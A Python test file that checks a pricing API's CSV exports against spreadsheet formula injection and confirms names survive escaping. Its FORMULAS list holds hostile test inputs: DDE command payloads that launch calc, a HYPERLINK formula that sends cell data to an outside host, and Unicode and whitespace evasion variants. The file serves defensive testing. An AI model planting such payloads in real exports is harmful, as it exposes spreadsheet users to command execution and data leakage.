"""Twenty formulas in names, in every CSV that leaves: none begins a cell, and all come back as they were."""

import csv
import io
import re
import tempfile
from collections.abc import Callable, Mapping
from pathlib import Path

import msgspec
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.files import load
from api.pages.response import Group, table_of
from api.served.feeds import Form, feed
from api.spreadsheet import as_csv, as_it_was, harmless
from api.tabular import write_table
from api.uploads import _list
from pricing.errors import Finding
from tests.api.pages.test_response import KNOWN
from tests.api.served.test_feeds import view

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"look")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0 @x",
    "\u3000+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '"=1+1"',
    "'=1+1",
    "Mug;=1+1;",
    "Mug\r=1+1",
    "Mug\n=1+1",
    'Mug,"=1+1"',
    'x";=1+1;"',
    "Mug\t-1+1",
]
RUNS = re.compile(r"[\s\"]*[=+\-@＝＋－＠](?![\d.]*\Z)")
"""The begin of a formula; a negative number alone is none."""


def in_memory(write: Callable[[Path], object]) -> bytes:
    """What a writer of files writes."""
    with tempfile.TemporaryDirectory() as name:
        write(Path(name) / "made.csv")
        return (Path(name) / "made.csv").read_bytes()


def of_table(text: str) -> bytes:
    """A table of a command, with the text as a cell of every kind and as a heading."""
    frame = pd.DataFrame({"name": [text], "kind": pd.Categorical([text]), "n": [-1.5]})
    frame["other"] = pd.Series([text], dtype=object)
    if not {"\r", "\n"} & set(text):
        frame[text] = ["x"]
    return in_memory(lambda path: write_table(frame, path))


def of_response(text: str) -> bytes:
    """The price response as a file."""
    return table_of([Group(msgspec.structs.replace(KNOWN, product=text, segment=text, reason=text))])


def of_problems(text: str) -> bytes:
    """What is wrong with an upload."""
    return in_memory(lambda path: _list(path, [Finding(text, "file", 2, text, text)]))


EXPORTS: Mapping[str, tuple[Callable[[str], bytes], str]] = {
    "a command's table": (of_table, "name"),
    "the feed of all prices": (lambda text: feed(Form.CSV, view(text)), "offer"),
    "the catalogue feed": (lambda text: feed(Form.META, view(text)), "id"),
    "the price response": (of_response, "product"),
    "problems of an upload": (of_problems, "problem"),
}
"""Every CSV that leaves: how it is made, and a column that holds the text."""


def cells(data: bytes) -> list[str]:
    """What may become a cell: as CSV with any of three delimiters, and as lines cut at each of them."""
    text = data.decode()
    rows = [row for mark in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark)]
    cut = [line.split(mark) for mark in ";\t" for line in re.split(r"[\r\n]", text)]
    return [cell for row in (*rows, *cut) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("export", EXPORTS)
def test_no_formula_begins_a_cell_and_every_name_comes_back(tmp_path: Path, export: str, text: str) -> None:
    """Read with commas, semicolons or tabs, quotes heeded or not; our own reader has the name as it was."""
    make, column = EXPORTS[export]
    data = make(text)
    assert [cell for cell in cells(data) if RUNS.match(cell)] == []
    (tmp_path / "made.csv").write_bytes(data)
    back = load(tmp_path / "made.csv").frame
    assert len(back) == 1
    assert back[column].iloc[0] == text


@given(st.text(st.sampled_from("=+-@'\" ;,\t\r\nx1\u00a0＝"), max_size=12))
def test_an_apostrophe_that_was_put_is_taken_off_and_no_other(text: str) -> None:
    """Whatever is in a cell; and after each separator nothing is left that could run."""
    told = str(harmless(text))
    assert as_it_was(told) == text
    assert not any(re.match(r"[^\S\t\r\n]*\"*[=+\-@＝]", cell) for cell in re.split(r"[;\t\r\n]", told))


def test_what_is_no_text_stays_what_it_is() -> None:
    """A negative number is a number; a column that a row lacks is blank."""
    assert harmless(-1.5) == -1.5
    assert as_csv(("a", "b"), [{"a": -1.5}, {"b": None}]) == b"a,b\n-1.5,\n,\n"
